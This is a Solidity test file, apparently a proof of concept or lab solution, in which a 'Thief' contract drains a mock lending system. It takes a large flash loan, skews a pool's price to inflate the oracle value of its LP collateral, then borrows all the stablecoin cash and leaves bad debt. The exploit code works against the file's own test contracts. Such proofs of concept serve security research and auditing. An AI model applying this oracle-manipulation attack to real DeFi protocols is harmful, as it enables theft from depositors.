// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Control} from "../lp-oracle/src/Control.sol";
import {LpLocker} from "../lp-oracle/src/LpLocker.sol";
import {LpValue} from "../lp-oracle/src/LpValue.sol";
import {StableVault} from "../lp-oracle/src/StableVault.sol";
import {Token} from "../../shared/Erc20.sol";
import {Feed} from "../../shared/Feed.sol";
import {FlashLender} from "../../shared/FlashLender.sol";
import {IFlashBorrower} from "../../shared/IFlashBorrower.sol";
import {Pool} from "../../shared/Pool.sol";

interface Vm {
    function startPrank(address) external;
    function stopPrank() external;
}

contract Thief is IFlashBorrower {
    LpOracleTest private immutable t = LpOracleTest(msg.sender);

    /// Brings its own liquidity, as the attacker of heist.toml has.
    function join() external {
        Pool pool = t.pool();
        t.usdm().approve(address(pool), type(uint256).max);
        t.kor().approve(address(pool), type(uint256).max);
        pool.addLiquidity(50_000 ether, 100_000 ether, address(this));
    }

    function run(uint256 loan) external {
        t.flash().flashLoan(this, address(t.usdm()), loan, "");
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        Pool pool = t.pool();
        pool.swap(amount, false, 0, address(this));
        uint256 cash = t.stables().cash();
        uint256 each = t.lpValue().valueOf(1e24);
        uint256 shares = cash * 1.003e18 / 0.65e18 * 1e24 / each + 1e6;
        pool.approve(address(t.locker()), type(uint256).max);
        t.locker().lock(shares);
        t.control().borrow(cash);
        pool.swap(t.kor().balanceOf(address(this)), true, 0, address(this));
        t.usdm().approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}

contract LpOracleTest {
    event log_named_decimal_uint(string key, uint256 value, uint256 decimals);

    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    address private constant gina = address(0x61);
    address private constant hugo = address(0x62);

    Token public usdm;
    Token public kor;
    Pool public pool;
    LpValue public lpValue;
    StableVault public stables;
    LpLocker public locker;
    Control public control;
    FlashLender public flash;
    Thief private thief;

    function setUp() public {
        usdm = new Token("Monetary dollar", "USDM");
        kor = new Token("Kor", "KOR");
        pool = new Pool(kor, usdm);
        lpValue = new LpValue(pool, new Feed(8, 2e8, address(this)));
        stables = new StableVault(usdm);
        locker = new LpLocker(pool);
        control = new Control(locker, stables, lpValue);
        stables.connect(address(control));
        locker.connect(control);
        flash = new FlashLender(9);
        thief = new Thief();
        usdm.mint(hugo, 1_000_000 ether);
        kor.mint(hugo, 470_000 ether);
        usdm.mint(gina, 1_200_000 ether);
        usdm.mint(address(thief), 100_000 ether);
        kor.mint(address(thief), 50_000 ether);
        usdm.mint(address(flash), 80_000_000 ether);
        vm.startPrank(hugo);
        usdm.approve(address(pool), type(uint256).max);
        kor.approve(address(pool), type(uint256).max);
        pool.addLiquidity(450_000 ether, 900_000 ether, hugo);
        vm.stopPrank();
        thief.join();
        vm.startPrank(gina);
        usdm.approve(address(stables), type(uint256).max);
        stables.supply(1_100_000 ether);
        vm.stopPrank();
        vm.startPrank(hugo);
        pool.approve(address(locker), type(uint256).max);
        locker.lock(150_000 ether);
        control.borrow(200_000 ether);
        vm.stopPrank();
    }

    function _wealth() private view returns (uint256) {
        return usdm.balanceOf(address(thief)) + 2 * kor.balanceOf(address(thief))
            + pool.balanceOf(address(thief)) * 2.828427124746190097 ether / 1 ether;
    }

    function test_attack_pays() public {
        uint256 before = _wealth();
        thief.run(54_465_000 ether);
        uint256 profit = _wealth() - before;
        emit log_named_decimal_uint("profit in usdm", profit, 18);
        require(profit > 700_000 ether, "no profit");
        require(control.collateral(address(thief)) < control.debt(address(thief)), "no bad debt");
    }
}
